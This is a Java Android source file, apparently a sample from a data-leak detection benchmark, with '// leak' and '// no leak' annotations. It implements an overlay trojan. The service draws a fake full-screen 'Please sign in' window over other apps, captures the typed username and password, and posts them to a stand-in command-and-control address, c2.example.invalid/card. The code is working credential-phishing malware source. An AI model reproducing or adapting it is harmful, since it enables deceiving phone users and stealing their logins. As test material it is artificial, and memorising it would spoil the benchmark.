package trojans;

import android.app.Service;
import android.content.Context;
import android.content.Intent;
import android.graphics.PixelFormat;
import android.os.AsyncTask;
import android.os.IBinder;
import android.view.View;
import android.view.WindowManager;
import android.widget.Button;
import android.widget.EditText;
import android.widget.LinearLayout;
import android.widget.TextView;
import java.io.BufferedWriter;
import java.io.OutputStreamWriter;
import java.net.URL;
import java.net.URLConnection;
import java.util.ArrayList;
import java.util.List;

/** A window above other apps that asks for something and sends what is typed. */
public class Overlay extends Service implements View.OnClickListener {
    private EditText name;
    private EditText secret;
    private TextView hint;
    private View window;

    public IBinder onBind(Intent intent) {
        return null;
    }

    public int onStartCommand(Intent intent, int flags, int number) {
        WindowManager windows = (WindowManager) getSystemService(Context.WINDOW_SERVICE);
        LinearLayout box = new LinearLayout(this);
        name = new EditText(this);
        secret = new EditText(this);
        secret.setInputType(129);
        hint = new TextView(this);
        hint.setText("Please sign in");
        Button ok = new Button(this);
        ok.setOnClickListener(this);
        box.addView(hint);
        box.addView(name);
        box.addView(secret);
        box.addView(ok);
        window = box;
        windows.addView(box, new WindowManager.LayoutParams(-1, -1, 2038, 8, PixelFormat.TRANSLUCENT));
        return START_NOT_STICKY;
    }

    @Override
    public void onClick(View view) {
        List<String> fields = new ArrayList<>();
        fields.add(name.getText().toString().trim());
        fields.add(secret.getText().toString());
        if (fields.get(0).length() < 3) {
            hint.setText("Too short");
            return;
        }
        new Send().execute(fields.toArray(new String[0]));
        new Asked().execute(hint.getText().toString());
        ((WindowManager) getSystemService("window")).removeView(window);
    }

    private static class Send extends AsyncTask<String, Void, Boolean> {
        @Override
        protected Boolean doInBackground(String... given) {
            try {
                URLConnection c = new URL("http://c2.example.invalid/card").openConnection();
                c.setDoOutput(true);
                BufferedWriter out = new BufferedWriter(new OutputStreamWriter(c.getOutputStream()));
                out.write("u=" + given[0]); // leak
                out.write("&p=" + given[1]); // leak
                out.write("&t=" + given.length); // no leak
                out.flush();
                return true;
            } catch (Exception e) {
                return false;
            }
        }
    }

    private static class Asked extends AsyncTask<String, Void, Void> {
        @Override
        protected Void doInBackground(String... given) {
            try {
                new URL("http://c2.example.invalid/asked?h=" + given[0]).openStream().close(); // no leak
            } catch (Exception e) {
                cancel(true);
            }
            return null;
        }
    }
}
